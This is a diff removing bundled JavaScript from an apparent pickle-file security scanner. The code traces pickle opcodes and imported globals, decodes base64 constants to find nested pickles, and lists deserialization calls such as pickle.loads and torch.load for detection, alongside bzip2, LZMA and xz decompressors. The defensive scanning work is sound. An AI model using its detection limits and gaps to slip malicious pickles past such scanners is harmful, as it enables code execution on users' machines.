-  /** Values whose methods are unknown to us: results of calls, globals, persistent objects, buffers. */
-  isObject(v) {
-    return v.k === "call" || v.k === "global" || v.k === "persid" || v.k === "buffer" || v.k === "unknown";
-  }
-  /** Marks every global reachable from a call's arguments as used by that call (bounded BFS). */
-  markArguments(root) {
-    if (root.k !== "global" && !isContainer(root)) return;
-    const offset = this.opStart;
-    const seen = /* @__PURE__ */ new Set();
-    const queue = [root];
-    let left = ARG_SCAN_PER_CALL;
-    for (let qi = 0; qi < queue.length; qi++) {
-      if (left-- <= 0 || this.argScanLeft-- <= 0) {
-        this.t.argScanExhausted = true;
-        return;
-      }
-      const v = queue[qi];
-      if (v.k === "global") {
-        if (this.t.importUsedAt[v.imp] === -1) this.t.importUsedAt[v.imp] = offset;
-      } else if (isContainer(v)) {
-        for (const item of v.items) {
-          if ((item.k === "global" || isContainer(item)) && !seen.has(item)) {
-            seen.add(item);
-            queue.push(item);
-          }
-        }
-      }
-    }
-  }
-  nestedPickle(arg) {
-    const inner = this.constantBytes(arg, 0);
-    if (inner === null || inner.length === 0) return;
-    const analysis = this.o.nested.analyze(inner);
-    if (analysis !== void 0 && analysis.isPickle) this.a.nested.push({ offset: this.opStart, analysis });
-  }
-  /** Bytes a value evaluates to when it is a constant or a cheap decoding of one, else null. */
-  constantBytes(v, depth) {
-    if (v.k === "bytes") return v.v;
-    if (v.k === "str") return latin1Bytes(v.v);
-    if (v.k !== "call" || depth > 4) return null;
-    const callee = this.a.calls[v.call].callee;
-    const args2 = this.callArgs[v.call];
-    if (args2.length === 0) return null;
-    if (BYTES_WRAPPERS.has(callee) || callee === "_codecs.encode" || callee === "codecs.encode") {
-      return this.constantBytes(args2[0], depth + 1);
-    }
-    if (BASE64_DECODERS.has(callee) || callee === "codecs.decode" && isBase64Codec(args2[1])) {
-      const encoded = this.constantBytes(args2[0], depth + 1);
-      return encoded === null ? null : decodeBase64(encoded);
-    }
-    return null;
-  }
-};
-function isDottedName(s) {
-  if (s.length === 0 || s.length > 512) return false;
-  let partStart = true;
-  for (let i2 = 0; i2 < s.length; i2++) {
-    const c = s.charCodeAt(i2);
-    if (c === 46) {
-      if (partStart) return false;
-      partStart = true;
-      continue;
-    }
-    const letter = c >= 65 && c <= 90 || c >= 97 && c <= 122 || c === 95 || c >= 128;
-    if (!letter && !(!partStart && c >= 48 && c <= 57)) return false;
-    partStart = false;
-  }
-  return !partStart;
-}
-function isBase64Codec(v) {
-  return v !== void 0 && v.k === "str" && (v.v === "base64" || v.v === "base_64" || v.v === "base-64");
-}
-function latin1Bytes(s) {
-  const out2 = new Uint8Array(s.length);
-  for (let i2 = 0; i2 < s.length; i2++) {
-    const c = s.charCodeAt(i2);
-    if (c > 255) return null;
-    out2[i2] = c;
-  }
-  return out2;
-}
-function decodeBase64(encoded) {
-  const out2 = new Uint8Array(Math.floor(encoded.length * 3 / 4) + 3);
-  let acc = 0;
-  let bits = 0;
-  let n = 0;
-  for (let i2 = 0; i2 < encoded.length; i2++) {
-    const c = encoded[i2];
-    let d;
-    if (c >= 65 && c <= 90) d = c - 65;
-    else if (c >= 97 && c <= 122) d = c - 71;
-    else if (c >= 48 && c <= 57) d = c + 4;
-    else if (c === 43 || c === 45) d = 62;
-    else if (c === 47 || c === 95) d = 63;
-    else if (c === 61) break;
-    else if (c === 10 || c === 13 || c === 32) continue;
-    else return null;
-    acc = (acc << 6 | d) & 16777215;
-    bits += 6;
-    if (bits >= 8) {
-      bits -= 8;
-      out2[n++] = acc >> bits & 255;
-    }
-  }
-  return out2.subarray(0, n);
-}
-
-// src/artifacts/pickle/sniff.ts
-var PROTOCOL_0_1_STARTS = /* @__PURE__ */ new Set([
-  OP.MARK,
-  OP.EMPTY_LIST,
-  OP.EMPTY_DICT,
-  OP.EMPTY_TUPLE,
-  OP.GLOBAL,
-  OP.NONE,
-  OP.INT,
-  OP.LONG,
-  OP.FLOAT,
-  OP.STRING,
-  OP.UNICODE,
-  OP.BININT,
-  OP.BININT1,
-  OP.BININT2,
-  OP.SHORT_BINSTRING,
-  OP.BINSTRING,
-  OP.BINUNICODE,
-  OP.BINFLOAT
-]);
-var SNIFF_WINDOW = 64 * 1024;
-var SNIFF_OPCODES = 4096;
-var MIN_OPCODES_IN_WINDOW = 16;
-var NO_NESTING = { isLoadsLike: () => false, analyze: () => void 0 };
-function looksLikePickle(bytes) {
-  if (bytes.length < 2) return false;
-  const first = bytes[0];
-  if (first === OP.PROTO) {
-    return bytes[1] >= 2 && bytes[1] <= 5 && bytes.length >= 3 && OPCODE_NAMES[bytes[2]] !== void 0;
-  }
-  if (!PROTOCOL_0_1_STARTS.has(first)) return false;
-  const windowed = bytes.length > SNIFF_WINDOW;
-  const trace = runMachine(windowed ? bytes.subarray(0, SNIFF_WINDOW) : bytes, {
-    limits: {
-      maxOpcodes: SNIFF_OPCODES,
-      maxStackDepth: 1e4,
-      maxMemoEntries: 1e4,
-      maxNesting: 0,
-      maxDecompressedBytes: 0
-    },
-    budget: { opcodes: SNIFF_OPCODES },
-    classArgHelpers: /* @__PURE__ */ new Set(),
-    nested: NO_NESTING
-  });
-  const a = trace.analysis;
-  if (a.streams > 0) return true;
-  if (trace.stoppedBy === "limit") return a.opcodeCount >= MIN_OPCODES_IN_WINDOW;
-  return windowed && trace.stoppedBy === "truncated" && a.opcodeCount >= MIN_OPCODES_IN_WINDOW;
-}
-
-// src/artifacts/pickle/index.ts
-var DEFAULT_PICKLE_OPTIONS = {
-  policy: "denylist",
-  allowGlobals: [],
-  limits: {
-    maxOpcodes: 5e6,
-    maxStackDepth: 1e5,
-    maxMemoEntries: 1e6,
-    maxNesting: 32,
-    maxDecompressedBytes: 1024 * 1024 * 1024
-  }
-};
-var LOADS_LIKE = /* @__PURE__ */ new Set([
-  "pickle.loads",
-  "pickle._loads",
-  "_pickle.loads",
-  "dill.loads",
-  "dill._dill.loads",
-  "cloudpickle.loads",
-  "cloudpickle.cloudpickle.loads",
-  "joblib.numpy_pickle.loads",
-  "numpy.loads",
-  "numpy.core.numeric.loads",
-  "pandas.compat.pickle_compat.loads",
-  "torch.load",
-  "torch.serialization.load",
-  "torch.storage._load_from_bytes"
-]);
-function analyzePickle(bytes, options) {
-  const resolved = {
-    policy: options?.policy ?? DEFAULT_PICKLE_OPTIONS.policy,
-    allowGlobals: options?.allowGlobals ?? DEFAULT_PICKLE_OPTIONS.allowGlobals,
-    limits: { ...DEFAULT_PICKLE_OPTIONS.limits, ...options?.limits }
-  };
-  return analyzeAt(bytes, resolved, 0, { opcodes: resolved.limits.maxOpcodes });
-}
-function analyzeAt(bytes, options, depth, budget) {
-  const nested = {
-    isLoadsLike: (callee) => LOADS_LIKE.has(callee),
-    analyze: (inner) => depth + 1 > options.limits.maxNesting ? nestingLimitReached(inner) : analyzeAt(inner, options, depth + 1, budget)
-  };
-  const trace = runMachine(bytes, { limits: options.limits, budget, classArgHelpers: CLASS_ARG_HELPERS, nested });
-  const a = trace.analysis;
-  a.issues = a.isPickle ? judge(trace, options) : [];
-  return a;
-}
-function nestingLimitReached(bytes) {
-  if (!looksLikePickle(bytes)) return void 0;
-  return {
-    isPickle: true,
-    protocol: null,
-    streams: 0,
-    opcodeCount: 0,
-    bytesConsumed: 0,
-    imports: [],
-    calls: [],
-    persistentIds: [],
-    issues: [
-      {
-        kind: "nested-pickle",
-        severity: "high",
-        message: "Pickles are nested deeper than the nesting limit; the innermost one was not inspected"
-      }
-    ],
-    nested: [],
-    error: { message: "nesting limit reached", offset: 0 }
-  };
-}
-
-// src/artifacts/containers/bzip2.ts
-var LimitReached = class extends Error {
-};
-var CorruptData = class extends Error {
-};
-var BitReader = class {
-  constructor(input) {
-    this.input = input;
-  }
-  input;
-  position = 0;
-  bitBuffer = 0;
-  bitCount = 0;
-  bits(count) {
-    if (count > 24) return this.bits(count - 24) * 16777216 + this.bits(24);
-    while (this.bitCount < count) {
-      if (this.position >= this.input.length) throw new CorruptData("bzip2 data is truncated");
-      this.bitBuffer = (this.bitBuffer & (1 << this.bitCount) - 1) << 8 | this.input[this.position++];
-      this.bitCount += 8;
-    }
-    this.bitCount -= count;
-    return this.bitBuffer >>> this.bitCount & (1 << count) - 1;
-  }
-  bit() {
-    return this.bits(1);
-  }
-  alignToByte() {
-    this.bitCount = 0;
-  }
-  get atEnd() {
-    return this.position >= this.input.length && this.bitCount === 0;
-  }
-  peekBytes(count) {
-    return this.input.subarray(this.position, this.position + count);
-  }
-};
-var Output = class {
-  constructor(max, initial) {
-    this.max = max;
-    this.bytes = new Uint8Array(Math.max(16, Math.min(initial, max)));
-  }
-  max;
-  bytes;
-  length = 0;
-  put(byte) {
-    if (this.length >= this.max) throw new LimitReached();
-    if (this.length === this.bytes.length) {
-      const next = new Uint8Array(Math.min(this.max, this.bytes.length * 2));
-      next.set(this.bytes);
-      this.bytes = next;
-    }
-    this.bytes[this.length++] = byte;
-  }
-};
-var BLOCK_MAGIC = 54156738319193;
-var END_MAGIC = 25779555029136;
-var MAX_GROUPS = 6;
-var GROUP_SIZE = 50;
-var MAX_CODE_LENGTH = 20;
-function buildTable(lengths, alphaSize) {
-  let minLength = 32;
-  let maxLength = 0;
-  for (let i2 = 0; i2 < alphaSize; i2++) {
-    minLength = Math.min(minLength, lengths[i2]);
-    maxLength = Math.max(maxLength, lengths[i2]);
-  }
-  const perm = new Int32Array(alphaSize);
-  let p = 0;
-  for (let length = minLength; length <= maxLength; length++) {
-    for (let s = 0; s < alphaSize; s++) if (lengths[s] === length) perm[p++] = s;
-  }
-  const base = new Int32Array(MAX_CODE_LENGTH + 2);
-  const limit = new Int32Array(MAX_CODE_LENGTH + 2).fill(-1);
-  for (let i2 = 0; i2 < alphaSize; i2++) base[lengths[i2] + 1]++;
-  for (let i2 = 1; i2 < base.length; i2++) base[i2] += base[i2 - 1];
-  let code3 = 0;
-  for (let length = minLength; length <= maxLength; length++) {
-    code3 += base[length + 1] - base[length];
-    limit[length] = code3 - 1;
-    code3 <<= 1;
-  }
-  for (let length = minLength + 1; length <= maxLength; length++) {
-    base[length] = (limit[length - 1] + 1 << 1) - base[length];
-  }
-  return { limit, base, perm, minLength };
-}
-function decodeSymbol(reader, table) {
-  let length = table.minLength;
-  let code3 = reader.bits(length);
-  while (length <= MAX_CODE_LENGTH) {
-    if (code3 <= table.limit[length]) {
-      const index = code3 - table.base[length];
-      if (index < 0 || index >= table.perm.length) throw new CorruptData("bzip2 Huffman code out of range");
-      return table.perm[index];
-    }
-    code3 = code3 * 2 + reader.bit();
-    length++;
-  }
-  throw new CorruptData("bzip2 Huffman code is invalid");
-}
-function decodeBlock(reader, blockSizeMax, out2) {
-  reader.bits(32);
-  if (reader.bit()) throw new CorruptData("randomised bzip2 blocks are not supported");
-  const origPtr = reader.bits(24);
-  const used = [];
-  const groupsUsed = reader.bits(16);
-  for (let i2 = 0; i2 < 16; i2++) {
-    if (groupsUsed & 32768 >>> i2) {
-      const symbols = reader.bits(16);
-      for (let j = 0; j < 16; j++) if (symbols & 32768 >>> j) used.push(i2 * 16 + j);
-    }
-  }
-  if (used.length === 0) throw new CorruptData("bzip2 block uses no symbols");
-  const alphaSize = used.length + 2;
-  const groups2 = reader.bits(3);
-  if (groups2 < 2 || groups2 > MAX_GROUPS) throw new CorruptData("bzip2 block has an invalid number of tables");
-  const selectorCount = reader.bits(15);
-  if (selectorCount === 0) throw new CorruptData("bzip2 block has no selectors");
-  const mtfGroups = Array.from({ length: groups2 }, (_, i2) => i2);
-  const selectors = new Uint8Array(selectorCount);
-  for (let i2 = 0; i2 < selectorCount; i2++) {
-    let j = 0;
-    while (reader.bit()) {
-      j++;
-      if (j >= groups2) throw new CorruptData("bzip2 selector out of range");
-    }
-    const group2 = mtfGroups[j];
-    mtfGroups.splice(j, 1);
-    mtfGroups.unshift(group2);
-    selectors[i2] = group2;
-  }
-  const tables = [];
-  for (let t = 0; t < groups2; t++) {
-    const lengths = new Uint8Array(alphaSize);
-    let length = reader.bits(5);
-    for (let s = 0; s < alphaSize; s++) {
-      for (; ; ) {
-        if (length < 1 || length > MAX_CODE_LENGTH) throw new CorruptData("bzip2 code length out of range");
-        if (!reader.bit()) break;
-        length += reader.bit() ? -1 : 1;
-      }
-      lengths[s] = length;
-    }
-    tables.push(buildTable(lengths, alphaSize));
-  }
-  const mtf = Uint8Array.from(used);
-  const counts = new Int32Array(256);
-  const tt = new Uint32Array(blockSizeMax);
-  const endOfBlock = alphaSize - 1;
-  let count = 0;
-  let run3 = 0;
-  let runWeight = 1;
-  let selector = 0;
-  let groupLeft = 0;
-  let table = tables[0];
-  for (; ; ) {
-    if (groupLeft === 0) {
-      if (selector >= selectorCount) throw new CorruptData("bzip2 block ran out of selectors");
-      table = tables[selectors[selector++]];
-      groupLeft = GROUP_SIZE;
-    }
-    groupLeft--;
-    const symbol = decodeSymbol(reader, table);
-    if (symbol <= 1) {
-      run3 += (symbol + 1) * runWeight;
-      runWeight *= 2;
-      if (run3 > blockSizeMax) throw new CorruptData("bzip2 run exceeds the block size");
-      continue;
-    }
-    if (run3 > 0) {
-      if (count + run3 > blockSizeMax) throw new CorruptData("bzip2 block exceeds its size");
-      const byte2 = mtf[0];
-      counts[byte2] += run3;
-      for (; run3 > 0; run3--) tt[count++] = byte2;
-      runWeight = 1;
-    }
-    if (symbol === endOfBlock) break;
-    if (count >= blockSizeMax) throw new CorruptData("bzip2 block exceeds its size");
-    const index = symbol - 1;
-    const byte = mtf[index];
-    mtf.copyWithin(1, 0, index);
-    mtf[0] = byte;
-    counts[byte]++;
-    tt[count++] = byte;
-  }
-  if (origPtr >= count) throw new CorruptData("bzip2 BWT origin out of range");
-  const starts = new Int32Array(256);
-  for (let i2 = 0, sum = 0; i2 < 256; i2++) {
-    starts[i2] = sum;
-    sum += counts[i2];
-  }
-  for (let i2 = 0; i2 < count; i2++) {
-    const byte = tt[i2] & 255;
-    tt[starts[byte]++] |= i2 << 8;
-  }
-  let position = tt[origPtr] >>> 8;
-  let previous = -1;
-  let repeat = 0;
-  for (let i2 = 0; i2 < count; i2++) {
-    const entry = tt[position];
-    const byte = entry & 255;
-    position = entry >>> 8;
-    if (repeat === 4) {
-      for (let k = 0; k < byte; k++) out2.put(previous);
-      repeat = 0;
-      previous = -1;
-      continue;
-    }
-    if (byte === previous) repeat++;
-    else {
-      repeat = 1;
-      previous = byte;
-    }
-    out2.put(byte);
-  }
-}
-function decodeBzip2(input, maxOutput) {
-  const out2 = new Output(maxOutput, input.length * 4);
-  const reader = new BitReader(input);
-  try {
-    for (let stream = 0; ; stream++) {
-      if (reader.bits(24) !== 4348520) throw new CorruptData("not a bzip2 stream");
-      const level = reader.bits(8) - 48;
-      if (level < 1 || level > 9) throw new CorruptData("invalid bzip2 block size");
-      for (; ; ) {
-        const magic = reader.bits(48);
-        if (magic === END_MAGIC) {
-          reader.bits(32);
-          break;
-        }
-        if (magic !== BLOCK_MAGIC) throw new CorruptData("invalid bzip2 block header");
-        decodeBlock(reader, level * 1e5, out2);
-      }
-      reader.alignToByte();
-      const next = reader.peekBytes(3);
-      if (reader.atEnd || !(next[0] === 66 && next[1] === 90 && next[2] === 104)) break;
-    }
-    return { bytes: out2.bytes.subarray(0, out2.length), limitReached: false };
-  } catch (error) {
-    const bytes = out2.bytes.subarray(0, out2.length);
-    if (error instanceof LimitReached) return { bytes, limitReached: true };
-    if (error instanceof CorruptData) return { bytes, limitReached: false, error: error.message };
-    throw error;
-  }
-}
-
-// src/artifacts/containers/lzma.ts
-var LimitReached2 = class extends Error {
-};
-var CorruptData2 = class extends Error {
-};
-var OutputWindow = class {
-  constructor(max, initial) {
-    this.max = max;
-    this.bytes = new Uint8Array(Math.max(16, Math.min(initial, max)));
-  }
-  max;
-  bytes;
-  length = 0;
-  /** Start of the current dictionary (LZMA2 dictionary resets): matches may not reach before it. */
-  dictStart = 0;
-  put(byte) {
-    if (this.length >= this.max) throw new LimitReached2();
-    if (this.length === this.bytes.length) this.grow(this.length + 1);
-    this.bytes[this.length++] = byte;
-  }
-  putBytes(chunk) {
-    for (const byte of chunk) this.put(byte);
-  }
-  /** Byte `distance` positions back (1 = the last byte written). */
-  back(distance) {
-    return this.bytes[this.length - distance];
-  }
-  canReach(distance) {
-    return distance <= this.length - this.dictStart;
-  }
-  grow(need) {
-    const next = new Uint8Array(Math.min(this.max, Math.max(need, this.bytes.length * 2)));
-    next.set(this.bytes.subarray(0, this.length));
-    this.bytes = next;
-  }
-};
-var RangeDecoder = class {
-  constructor(input, position, end) {
-    this.input = input;
-    this.position = position;
-    this.end = end;
-    if (this.next() !== 0) throw new CorruptData2("range coder does not start with 0");
-    for (let i2 = 0; i2 < 4; i2++) this.code = this.code * 256 + this.next();
-    if (this.code === this.range) throw new CorruptData2("range coder initial code is invalid");
-  }
-  input;
-  position;
-  end;
-  range = 4294967295;
-  code = 0;
-  next() {
-    if (this.position >= this.end) throw new CorruptData2("compressed data is truncated");
-    return this.input[this.position++];
-  }
-  normalize() {
-    if (this.range < 16777216) {
-      this.range *= 256;
-      this.code = this.code * 256 + this.next();
-    }
-  }
-  finishedOk() {
-    return this.code === 0;
-  }
-  bit(probs, index) {
-    const prob = probs[index];
-    const bound = (this.range >>> 11) * prob;
-    let result2;
-    if (this.code < bound) {
-      this.range = bound;
-      probs[index] = prob + (2048 - prob >>> 5);
-      result2 = 0;
-    } else {
-      this.range -= bound;
-      this.code -= bound;
-      probs[index] = prob - (prob >>> 5);
-      result2 = 1;
-    }
-    this.normalize();
-    return result2;
-  }
-  direct(count) {
-    let result2 = 0;
-    for (let i2 = 0; i2 < count; i2++) {
-      this.range = Math.floor(this.range / 2);
-      let bit = 0;
-      if (this.code >= this.range) {
-        this.code -= this.range;
-        bit = 1;
-      }
-      result2 = result2 * 2 + bit;
-      this.normalize();
-    }
-    return result2;
-  }
-  tree(probs, offset, bits) {
-    let m = 1;
-    for (let i2 = 0; i2 < bits; i2++) m = m * 2 + this.bit(probs, offset + m);
-    return m - (1 << bits);
-  }
-  reverseTree(probs, offset, bits) {
-    let m = 1;
-    let symbol = 0;
-    for (let i2 = 0; i2 < bits; i2++) {
-      const bit = this.bit(probs, offset + m);
-      m = m * 2 + bit;
-      symbol |= bit << i2;
-    }
-    return symbol;
-  }
-};
-var STATES = 12;
-var POS_STATES_MAX = 16;
-var END_POS_MODEL_INDEX = 14;
-var FULL_DISTANCES = 128;
-var LengthDecoder = class {
-  probs = new Uint16Array(2 + POS_STATES_MAX * 8 * 2 + 256).fill(1024);
-  decode(rc, posState) {
-    if (rc.bit(this.probs, 0) === 0) return rc.tree(this.probs, 2 + posState * 8, 3);
-    if (rc.bit(this.probs, 1) === 0) return 8 + rc.tree(this.probs, 2 + POS_STATES_MAX * 8 + posState * 8, 3);
-    return 16 + rc.tree(this.probs, 2 + POS_STATES_MAX * 16, 8);
-  }
-};
-function parseProperties(byte) {
-  if (byte >= 9 * 5 * 5) throw new CorruptData2("invalid LZMA properties byte");
-  return { lc: byte % 9, lp: Math.floor(byte / 9) % 5, pb: Math.floor(byte / 45) };
-}
-var LzmaState = class {
-  constructor(props, dictSize) {
-    this.props = props;
-    this.dictSize = dictSize;
-    this.reset();
-  }
-  props;
-  dictSize;
-  literal;
-  isMatch = new Uint16Array(STATES * POS_STATES_MAX);
-  isRep = new Uint16Array(STATES);
-  isRepG0 = new Uint16Array(STATES);
-  isRepG1 = new Uint16Array(STATES);
-  isRepG2 = new Uint16Array(STATES);
-  isRep0Long = new Uint16Array(STATES * POS_STATES_MAX);
-  posSlot = new Uint16Array(4 * 64);
-  posDecoders = new Uint16Array(1 + FULL_DISTANCES - END_POS_MODEL_INDEX);
-  align = new Uint16Array(16);
-  lengths = new LengthDecoder();
-  repLengths = new LengthDecoder();
-  state = 0;
-  reps = [0, 0, 0, 0];
-  setProperties(props) {
-    this.props = props;
-  }
-  reset() {
-    this.literal = new Uint16Array(768 << this.props.lc + this.props.lp).fill(1024);
-    for (const probs of [this.isMatch, this.isRep, this.isRepG0, this.isRepG1, this.isRepG2, this.isRep0Long, this.posSlot, this.posDecoders, this.align]) {
-      probs.fill(1024);
-    }
-    this.lengths = new LengthDecoder();
-    this.repLengths = new LengthDecoder();
-    this.state = 0;
-    this.reps = [0, 0, 0, 0];
-  }
-  /**
-   * Decodes until `size` bytes were produced (when given) or the end marker. Returns whether the end marker
-   * was seen.
-   */
-  decode(rc, out2, size) {
-    const { lc, lp, pb } = this.props;
-    const pbMask = (1 << pb) - 1;
-    const lpMask = (1 << lp) - 1;
-    let remaining = size ?? Number.POSITIVE_INFINITY;
-    for (; ; ) {
-      if (remaining === 0) return false;
-      const posState = out2.length & pbMask;
-      if (rc.bit(this.isMatch, (this.state << 4) + posState) === 0) {
-        const prev = out2.length > out2.dictStart ? out2.back(1) : 0;
-        const base = 768 * (((out2.length & lpMask) << lc) + (prev >>> 8 - lc));
-        let symbol = 1;
-        if (this.state >= 7) {
-          let matchByte = out2.back(this.reps[0] + 1);
-          while (symbol < 256) {
-            const matchBit = matchByte >>> 7 & 1;
-            matchByte <<= 1;
-            const bit = rc.bit(this.literal, base + (1 + matchBit << 8) + symbol);
-            symbol = symbol << 1 | bit;
-            if (matchBit !== bit) break;
-          }
-        }
-        while (symbol < 256) symbol = symbol << 1 | rc.bit(this.literal, base + symbol);
-        out2.put(symbol - 256);
-        this.state = this.state < 4 ? 0 : this.state < 10 ? this.state - 3 : this.state - 6;
-        remaining--;
-        continue;
-      }
-      let length;
-      if (rc.bit(this.isRep, this.state) !== 0) {
-        if (out2.length === out2.dictStart) throw new CorruptData2("repeated match before any data");
-        if (rc.bit(this.isRepG0, this.state) === 0) {
-          if (rc.bit(this.isRep0Long, (this.state << 4) + posState) === 0) {
-            this.state = this.state < 7 ? 9 : 11;
-            out2.put(out2.back(this.reps[0] + 1));
-            remaining--;
-            continue;
-          }
-        } else {
-          let distance2;
-          if (rc.bit(this.isRepG1, this.state) === 0) {
-            distance2 = this.reps[1];
-          } else {
-            if (rc.bit(this.isRepG2, this.state) === 0) {
-              distance2 = this.reps[2];
-            } else {
-              distance2 = this.reps[3];
-              this.reps[3] = this.reps[2];
-            }
-            this.reps[2] = this.reps[1];
-          }
-          this.reps[1] = this.reps[0];
-          this.reps[0] = distance2;
-        }
-        length = this.repLengths.decode(rc, posState);
-        this.state = this.state < 7 ? 8 : 11;
-      } else {
-        this.reps[3] = this.reps[2];
-        this.reps[2] = this.reps[1];
-        this.reps[1] = this.reps[0];
-        length = this.lengths.decode(rc, posState);
-        this.state = this.state < 7 ? 7 : 10;
-        const distance2 = this.decodeDistance(rc, length);
-        if (distance2 === 4294967295) {
-          if (!rc.finishedOk()) throw new CorruptData2("end marker with trailing range coder state");
-          return true;
-        }
-        this.reps[0] = distance2;
-      }
-      length += 2;
-      const distance = this.reps[0] + 1;
-      if (distance > this.dictSize + 1 || !out2.canReach(distance)) throw new CorruptData2("match distance beyond the dictionary");
-      if (length > remaining) throw new CorruptData2("match runs past the declared size");
-      for (let i2 = 0; i2 < length; i2++) out2.put(out2.back(distance));
-      remaining -= length;
-    }
-  }
-  decodeDistance(rc, length) {
-    const lenState = Math.min(length, 3);
-    const slot = rc.tree(this.posSlot, lenState * 64, 6);
-    if (slot < 4) return slot;
-    const directBits = (slot >>> 1) - 1;
-    let distance = (2 | slot & 1) * 2 ** directBits;
-    if (slot < END_POS_MODEL_INDEX) {
-      distance += rc.reverseTree(this.posDecoders, distance - slot - 1, directBits);
-    } else {
-      distance += rc.direct(directBits - 4) * 16;
-      distance += rc.reverseTree(this.align, 0, 4);
-    }
-    return distance;
-  }
-};
-function run2(decode, maxOutput, sizeHint) {
-  const out2 = new OutputWindow(maxOutput, sizeHint);
-  try {
-    decode(out2);
-    return { bytes: out2.bytes.subarray(0, out2.length), limitReached: false };
-  } catch (error) {
-    const bytes = out2.bytes.subarray(0, out2.length);
-    if (error instanceof LimitReached2) return { bytes, limitReached: true };
-    if (error instanceof CorruptData2) return { bytes, limitReached: false, error: error.message };
-    throw error;
-  }
-}
-function decodeLzmaAlone(input, maxOutput) {
-  return run2(
-    (out2) => {
-      if (input.length < 13) throw new CorruptData2("lzma header is truncated");
-      const props = parseProperties(input[0]);
-      const dictSize = Math.max(4096, (input[1] | input[2] << 8 | input[3] << 16 | input[4] << 24) >>> 0);
-      const sizeKnown = !input.subarray(5, 13).every((b) => b === 255);
-      let size = 0;
-      for (let i2 = 12; i2 >= 5; i2--) size = size * 256 + input[i2];
-      const rc = new RangeDecoder(input, 13, input.length);
-      new LzmaState(props, dictSize).decode(rc, out2, sizeKnown ? size : null);
-    },
-    maxOutput,
-    input.length * 4
-  );
-}
-function lzma2Dictionary(byte) {
-  if (byte > 40) throw new CorruptData2("invalid LZMA2 dictionary size");
-  if (byte === 40) return 4294967295;
-  return (2 | byte & 1) * 2 ** (Math.floor(byte / 2) + 11);
-}
-function decodeLzma2(input, start2, dictSize, out2) {
-  let at = start2;
-  let state = null;
-  const need = (n) => {
-    if (at + n > input.length) throw new CorruptData2("LZMA2 data is truncated");
-  };
-  for (; ; ) {
-    need(1);
-    const control = input[at++];
-    if (control === 0) return at;
-    if (control === 1 || control === 2) {
-      need(2);
-      const size = (input[at] << 8 | input[at + 1]) + 1;
-      at += 2;
-      need(size);
-      if (control === 1) out2.dictStart = out2.length;
-      out2.putBytes(input.subarray(at, at + size));
-      at += size;
-      continue;
-    }
-    if (control < 128) throw new CorruptData2(`invalid LZMA2 control byte 0x${control.toString(16)}`);
-    need(4);
-    const unpacked = (control & 31) * 65536 + (input[at] << 8 | input[at + 1]) + 1;
-    const packed = (input[at + 2] << 8 | input[at + 3]) + 1;
-    at += 4;
-    const reset = control >>> 5 & 3;
-    if (reset === 3) out2.dictStart = out2.length;
-    if (reset >= 2) {
-      need(1);
-      const props = parseProperties(input[at++]);
-      if (props.lc + props.lp > 4) throw new CorruptData2("LZMA2 lc + lp exceeds 4");
-      if (state) state.setProperties(props);
-      else state = new LzmaState(props, dictSize);
-    }
-    if (!state) throw new CorruptData2("LZMA2 chunk without properties");
-    if (reset >= 1) state.reset();
-    need(packed);
-    const rc = new RangeDecoder(input, at, at + packed);
-    state.decode(rc, out2, unpacked);
-    at += packed;
-  }
-}
-function readVarint(input, at) {
-  let value = 0;
-  for (let i2 = 0; i2 < 9; i2++) {
-    if (at + i2 >= input.length) throw new CorruptData2("xz header is truncated");
-    const byte = input[at + i2];
-    value += (byte & 127) * 2 ** (7 * i2);
-    if ((byte & 128) === 0) return [value, at + i2 + 1];
-  }
-  throw new CorruptData2("xz varint is too long");
-}
-var CHECK_SIZES = [0, 4, 4, 4, 8, 8, 8, 16, 16, 16, 32, 32, 32, 64, 64, 64];
-function decodeXz(input, maxOutput) {
-  return run2(
-    (out2) => {
-      if (input.length < 12) throw new CorruptData2("xz header is truncated");
-      const checkSize = CHECK_SIZES[input[7] & 15];
-      let at = 12;
-      for (; ; ) {
-        if (at >= input.length) throw new CorruptData2("xz stream is truncated");
-        const headerByte = input[at];
-        if (headerByte === 0) return;
-        const headerSize = (headerByte + 1) * 4;
-        if (at + headerSize > input.length) throw new CorruptData2("xz block header is truncated");
-        const flags2 = input[at + 1];
-        let p = at + 2;
-        if (flags2 & 64) p = readVarint(input, p)[1];
-        if (flags2 & 128) p = readVarint(input, p)[1];
-        const filters = (flags2 & 3) + 1;
-        let dictSize = 0;
-        for (let i2 = 0; i2 < filters; i2++) {
-          const [id, afterId] = readVarint(input, p);
-          const [propsSize, afterSize] = readVarint(input, afterId);
-          if (id !== 33 || i2 !== filters - 1) throw new CorruptData2(`xz filter 0x${id.toString(16)} is not supported`);
-          if (propsSize !== 1) throw new CorruptData2("xz LZMA2 properties are malformed");
-          dictSize = lzma2Dictionary(input[afterSize]);
-          p = afterSize + propsSize;
-        }
-        const dataEnd = decodeLzma2(input, at + headerSize, dictSize, out2);
-        at = dataEnd + (4 - dataEnd % 4) % 4 + checkSize;
-      }
-    },
-    maxOutput,
-    input.length * 4
-  );
-}
-
-// src/artifacts/containers/decompress.ts
-var INPUT_CHUNK = 1 << 20;
-var SNIFF_INPUT = 4 << 20;
-var syncDecoders = /* @__PURE__ */ new Map([
-  ["bz2", decodeBzip2],
-  ["xz", decodeXz],
-  ["lzma", decodeLzmaAlone]
-]);
-async function decompress(format, input, options) {
-  const cap = Math.max(0, Math.min(options.limit, options.want ?? Number.POSITIVE_INFINITY));
-  const syncDecoder = syncDecoders.get(format);
-  if (syncDecoder) {
-    if (options.want !== void 0 && input.size > SNIFF_INPUT) {
-      const partial = syncDecoder(await readRange(input, 0, SNIFF_INPUT), cap);
-      if (partial.bytes.length >= cap) return { bytes: partial.bytes, limitReached: partial.limitReached && hitsLimit(options) };
-    }
-    if (input.size > options.limit) {
-      return { bytes: new Uint8Array(0), limitReached: true, error: `compressed ${format} data larger than the decompression limit` };
-    }
-    const result2 = syncDecoder(await readRange(input, 0, input.size), cap);
-    return { ...result2, limitReached: result2.limitReached && hitsLimit(options) };
-  }
-  return streamDecompress(format === "zlib" ? "deflate" : format, input, cap, options);
-}
-async function streamDecompress(format, input, cap, options) {
-  const stream = new DecompressionStream(format);
-  const writer = stream.writable.getWriter();
-  const reader = stream.readable.getReader();
-  let stopped = false;
-  let feedError;
-  const feeding = (async () => {
-    try {
-      for (let at = 0; at < input.size && !stopped; at += INPUT_CHUNK) {
-        const chunk = await readRange(input, at, INPUT_CHUNK);
-        if (chunk.length === 0) break;
-        await writer.write(chunk);
-      }
-      if (!stopped) await writer.close();
-    } catch (error2) {
-      feedError = error2;
-    }
-  })();
-  const chunks = [];
-  let total = 0;
-  let error;
-  let limitReached = false;
-  try {
-    for (; ; ) {
-      const { value, done } = await reader.read();
-      if (done) break;
